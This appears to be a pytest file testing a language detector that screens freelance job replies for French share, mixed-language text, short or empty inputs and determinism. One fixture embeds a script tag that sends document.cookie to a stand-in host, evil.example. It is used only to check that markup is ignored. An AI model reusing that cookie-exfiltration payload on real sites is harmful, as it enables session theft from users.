"""Language: main language, French share, "too short to tell", determinism, offsets."""
from __future__ import annotations

import pytest

from screening.scoring.language import FRENCH_MIN_SHARE, detect_language

FRENCH = ("Bonjour, je peux réaliser la saisie de vos quatre cents cartes de visite en cinq jours. "
          "Je commence par trier les scans par salon, puis je saisis les contacts dans votre tableur. "
          "Je termine par un contrôle des doublons et du format des numéros de téléphone. "
          "J'ai déjà fait ce travail pour un cabinet comptable pendant deux ans.")
ENGLISH = ("Dear Sir or Madam, I have carefully read your job description and I am confident that I am the best "
           "candidate for this job. I have more than eight years of experience in data entry and web research. "
           "I always deliver accurate work within your deadline and I offer unlimited revisions to every client. "
           "Please message me so we can discuss the details of the project.")


def test_plain_french():
    lang = detect_language(FRENCH)
    assert (lang.status, lang.lang, lang.is_french, lang.french_share) == ("ok", "fr", True, 1.0)


def test_french_reply_with_english_signature_stays_french():
    text = FRENCH + "\n\nBest regards,\nJohn Smith\nSenior Data Entry Specialist\nSent from my iPhone"
    lang = detect_language(text)
    assert lang.lang == "fr" and lang.is_french
    assert lang.french_share >= FRENCH_MIN_SHARE


def test_english_template_with_one_french_line_is_not_french():
    text = ENGLISH + "\nJe parle aussi français et je peux vous répondre en français si besoin."
    lang = detect_language(text)
    assert lang.lang == "en"
    assert not lang.is_french
    assert 0.0 < lang.french_share < 0.5


def test_mixed_two_thirds_french_is_french_majority_but_not_french_enough():
    text = ("Bonjour Léa ! Je suis gestionnaire de réseaux sociaux indépendante et bilingue. "
            "For each weekly batch, I can deliver everything within three days. "
            "Mes étapes : création des visuels dans Canva, rédaction des légendes et programmation des épingles. "
            "I can work eight hours per week on your account. "
            "Pourquoi moi : je gère déjà Pinterest pour deux marques de papeterie et je connais bien les carnets.")
    lang = detect_language(text)
    assert lang.lang == "fr"
    assert not lang.is_french
    assert 0.5 < lang.french_share < FRENCH_MIN_SHARE
    for span in lang.other_spans:  # offsets point at the English sentences of the original text
        assert any(w in text[span.start:span.end] for w in ("batch", "week"))


@pytest.mark.parametrize("text,code", [
    ("Hola, puedo entregar la hoja de cálculo completa en cinco días y dispongo de treinta horas semanales "
     "para este proyecto. He trabajado tres años en una feria comercial.", "es"),
    ("Buongiorno, posso consegnare il logo e la pagina in tre settimane. Posso dedicare al progetto venti ore "
     "a settimana. Sono graphic designer da sei anni.", "it"),
    ("Olá! Posso digitar os quatrocentos cartões de visita em quatro dias e tenho vinte e cinco horas por "
     "semana disponíveis. Trabalho com planilhas há muitos anos.", "pt"),
    (ENGLISH, "en"),
])
def test_other_languages(text, code):
    lang = detect_language(text)
    assert lang.lang == code
    assert not lang.is_french and lang.french_share < 0.2


@pytest.mark.parametrize("text", ["Intéressé, dispo de suite", "OK merci", "Bonjour !", "Yes please"])
def test_too_short_to_tell(text):
    lang = detect_language(text)
    assert lang.status == "too_short"
    assert lang.classified_words == 0


@pytest.mark.parametrize("text", ["", "   \n\t ", "12345 !!! 678", "\u200b\u200d\ufeff", "😀😀😀"])
def test_no_words_is_empty(text):
    lang = detect_language(text)
    assert lang.status == "empty" and lang.lang == "und" and not lang.is_french


def test_markup_and_links_do_not_count_as_another_language():
    text = ("<script>fetch('https://evil.example/steal?c='+document.cookie)</script>\n"
            "Bonjour, je suis graphiste et développeur. Je peux livrer votre logo et votre page en dix jours. "
            "Je dispose de vingt heures par semaine. Mon portfolio : https://portfolio-alex.example/work/latest")
    lang = detect_language(text)
    assert lang.is_french and lang.french_share == 1.0


def test_invisible_characters_and_crlf_do_not_change_the_answer():
    noisy = FRENCH.replace(" ", " \u200b", 5).replace(". ", ".\r\n")
    assert detect_language(noisy).lang == "fr"
    assert detect_language(noisy).is_french


def test_same_text_same_answer():
    texts = [FRENCH, ENGLISH, "Intéressé, dispo de suite", "Ciao! Posso gestire Pinterest, 10 ore a settimana."]
    first = [detect_language(t).to_dict() for t in texts]
    assert first == [detect_language(t).to_dict() for t in texts]


def test_a_switch_inside_a_long_sentence_is_counted_by_clause():
    text = ("Pourquoi moi : j'ai déjà construit un tableau de bord pour une boutique de cafés en ligne, "
            "with the advertising spend pulled in automatically every single Monday morning, "
            "et la gérante le met à jour toute seule depuis un an.")
    lang = detect_language(text)
    assert lang.lang == "fr" and not lang.is_french
    english = [text[s.start:s.end] for s in lang.other_spans]
    assert any("advertising spend" in e for e in english)


@pytest.mark.parametrize("text", [
    "Coucou ! J'adore vos carnets en papier recyclé, je vous suis sur Insta depuis longtemps 😍 "
    "Je serais ravie de m'occuper de vos réseaux ! On s'appelle ?",
    "Voici un aperçu de mon travail ci-dessus ! Je peux créer votre logo et votre page en douze jours.",
])
def test_short_french_clauses_that_look_foreign_stay_french(text):
    lang = detect_language(text)
    assert lang.is_french and lang.french_share == 1.0
